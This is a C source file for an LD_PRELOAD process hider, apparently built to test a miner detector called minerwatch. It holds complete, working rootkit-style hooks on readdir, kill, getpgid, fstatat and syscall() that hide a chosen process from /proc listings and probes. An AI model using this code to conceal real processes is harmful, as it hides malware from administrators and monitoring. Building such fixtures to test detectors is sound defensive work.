/* An LD_PRELOAD process hider for minerwatch's tests: hooks readdir and
 * readdir64 and skips the /proc entry named by $MW_HIDE_PID, as
 * libprocesshider-style rootkits do; and, as the thorough ones do, hooks
 * kill, getpgid, fstatat and syscall() too, so that a probe of that pid
 * through libc says "no such process" and a getdents64 made through
 * syscall() loses its entry. Build:
 * cc -shared -fPIC -o hider.so hider.c -ldl */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <unistd.h>

static int mw_hidden(const char *name) {
    const char *h = getenv("MW_HIDE_PID");
    return h != NULL && *h != '\0' && strcmp(name, h) == 0;
}

struct dirent *readdir(DIR *d) {
    static struct dirent *(*real)(DIR *) = NULL;
    if (real == NULL) real = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
    struct dirent *e;
    do { e = real(d); } while (e != NULL && mw_hidden(e->d_name));
    return e;
}

struct dirent64 *readdir64(DIR *d) {
    static struct dirent64 *(*real)(DIR *) = NULL;
    if (real == NULL) real = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *e;
    do { e = real(d); } while (e != NULL && mw_hidden(e->d_name));
    return e;
}

static int mw_hidden_pid(long pid) {
    const char *h = getenv("MW_HIDE_PID");
    return h != NULL && *h != '\0' && pid == atol(h);
}

int kill(pid_t pid, int sig) {
    static int (*real)(pid_t, int) = NULL;
    if (real == NULL) real = (int (*)(pid_t, int))dlsym(RTLD_NEXT, "kill");
    if (mw_hidden_pid(pid)) { errno = ESRCH; return -1; }
    return real(pid, sig);
}

pid_t getpgid(pid_t pid) {
    static pid_t (*real)(pid_t) = NULL;
    if (real == NULL) real = (pid_t (*)(pid_t))dlsym(RTLD_NEXT, "getpgid");
    if (mw_hidden_pid(pid)) { errno = ESRCH; return -1; }
    return real(pid);
}

int fstatat(int dirfd, const char *path, struct stat *st, int flags) {
    static int (*real)(int, const char *, struct stat *, int) = NULL;
    if (real == NULL) real = (int (*)(int, const char *, struct stat *, int))dlsym(RTLD_NEXT, "fstatat");
    if (path != NULL && mw_hidden(path)) { errno = ENOENT; return -1; }
    return real(dirfd, path, st, flags);
}

int fstatat64(int dirfd, const char *path, struct stat64 *st, int flags) {
    static int (*real)(int, const char *, struct stat64 *, int) = NULL;
    if (real == NULL) real = (int (*)(int, const char *, struct stat64 *, int))dlsym(RTLD_NEXT, "fstatat64");
    if (path != NULL && mw_hidden(path)) { errno = ENOENT; return -1; }
    return real(dirfd, path, st, flags);
}

/* getdents64 records: d_ino u64, d_off s64, d_reclen u16, d_type u8, name */
static long mw_filter_dents(char *buf, long n) {
    long in = 0, out = 0;
    while (in < n) {
        unsigned short reclen;
        memcpy(&reclen, buf + in + 16, sizeof reclen);
        if (reclen == 0 || in + reclen > n) break;
        if (!mw_hidden(buf + in + 19)) {
            if (out != in) memmove(buf + out, buf + in, reclen);
            out += reclen;
        }
        in += reclen;
    }
    return out;
}

long syscall(long number, ...) {
    static long (*real)(long, ...) = NULL;
    if (real == NULL) real = (long (*)(long, ...))dlsym(RTLD_NEXT, "syscall");
    va_list ap;
    va_start(ap, number);
    long a[6];
    for (int i = 0; i < 6; i++) a[i] = va_arg(ap, long);
    va_end(ap);
    if ((number == SYS_kill || number == SYS_getpgid) && mw_hidden_pid(a[0])) {
        errno = ESRCH;
        return -1;
    }
    long r = real(number, a[0], a[1], a[2], a[3], a[4], a[5]);
    if (number == SYS_getdents64 && r > 0) r = mw_filter_dents((char *)a[1], r);
    return r;
}
